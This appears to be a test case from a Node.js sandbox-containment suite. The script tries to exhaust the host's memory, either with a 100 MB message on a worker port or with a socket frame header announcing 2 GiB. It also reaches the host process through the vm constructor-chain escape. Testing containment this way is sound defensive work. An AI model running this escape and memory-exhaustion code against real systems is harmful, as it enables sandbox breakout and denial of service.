/*---
id: oversized-message
title: An oversized message to the host
category: ipc
goal: Exhaust the receiver's memory with one huge message, outside the guest's own memory budget.
technique: A worker posts a 100 MB string on parentPort (cloned into the host's heap before any check); a child or the host writes a frame header announcing 2 GiB followed by 1 MiB of body.
references: https://nodejs.org/api/worker_threads.html#portpostmessagevalue-transferlist, https://nodejs.org/api/net.html#socketwritedata-encoding-callback
expect: * = contained
---*/
// The frame header must be refused before its body is buffered; a structured clone is copied whole before
// the receiver can look at it, so the host pays for it. Under node:vm the Node APIs come from outside.
let P = typeof process === 'object' ? process : undefined;
try {
  P ??= this.constructor.constructor('return process')();
} catch {}
const wt = P?.getBuiltinModule?.('node:worker_threads');
const net = P?.getBuiltinModule?.('node:net');
const { Buffer: B } = P?.getBuiltinModule?.('node:buffer') ?? {};
const port = wt && !wt.isMainThread ? wt.parentPort : null;
const socket = port ? null : P?._getActiveHandles?.().find((h) => h instanceof net.Socket && !h._isStdio);
let sent = 'no channel in this realm';
if (port) {
  port.postMessage({ t: 'console', level: 'log', text: 'x'.repeat(100 * 1024 * 1024) });
  sent = 'posted a 100 MB console message';
}
if (socket) {
  const head = B.alloc(4);
  head.writeUInt32BE(0x80000000);
  socket.write(B.concat([head, B.alloc(1024 * 1024, 0x7b)]));
  sent = 'wrote a 2 GiB frame header';
}
const later = P?.getBuiltinModule?.('node:timers').setTimeout;
later ? new Promise((resolve) => later(() => resolve(`${sent}; still running`), 300)) : sent;
